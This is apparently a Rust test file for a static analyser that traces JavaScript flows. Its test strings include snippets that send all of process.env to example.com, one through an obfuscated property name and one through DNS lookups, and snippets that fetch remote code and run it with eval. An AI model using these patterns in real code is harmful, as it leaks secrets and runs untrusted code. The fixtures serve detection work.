//! JavaScript and TypeScript through the whole front end: what a source says, and which facts come of it.

use super::*;
use crate::facts::{Labels, Sink};

fn of(text: &str) -> Facts {
    facts("m.js", text.as_bytes(), &Outside::default())
}

fn flow(text: &str, sink: Sink) -> Labels {
    let flows = of(text).flows;
    let all = flows.iter().filter(|flow| flow.sink == sink);
    let labels = all.fold(Labels::NONE, |all, flow| all.and(flow.labels));
    assert!(!labels.is_empty(), "nothing reaches {sink:?} in {text}: {flows:#?}");
    labels
}

#[test]
fn the_table_has_no_mistakes() {
    assert_eq!(TABLE.problems(), &[] as &[String]);
}

#[test]
fn the_environment_is_followed_to_where_it_is_sent() {
    for text in [
        "fetch('https://example.com', {method: 'POST', body: JSON.stringify(process.env)})",
        "const https = require('https'); const r = https.request({host: 'example.com'}); r.write(JSON.stringify({...process.env})); r.end()",
        "import axios from 'axios'; const {env} = process; await axios.post('https://example.com', {env})",
        "const e = Object.entries(process.env); require('dns').lookup(Buffer.from(JSON.stringify(e)).toString('hex') + '.example.com', () => {})",
        "var p = globalThis['pro' + 'cess']; fetch('//example.com?' + new URLSearchParams(p.env))",
        "(0, require('node:https').get)(`https://example.com/?${encodeURIComponent(JSON.stringify(process.env))}`)",
    ] {
        assert!(flow(text, Sink::Send).has(Labels::ENVIRONMENT), "{text}");
    }
}

#[test]
fn what_is_fetched_is_followed_to_where_it_is_run() {
    for text in [
        "fetch('https://example.com').then(r => r.text()).then(t => eval(t))",
        "require('https').get('https://example.com', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => new Function(b)()) })",
        "const axios = require('axios'); (async () => { const {data} = await axios.get('https://example.com'); eval(data) })()",
        "import('node:https').then(h => h.get('https://example.com', r => r.on('data', d => eval(d.toString()))))",
    ] {
        assert!(flow(text, Sink::Eval).has(Labels::NETWORK), "{text}");
    }
}
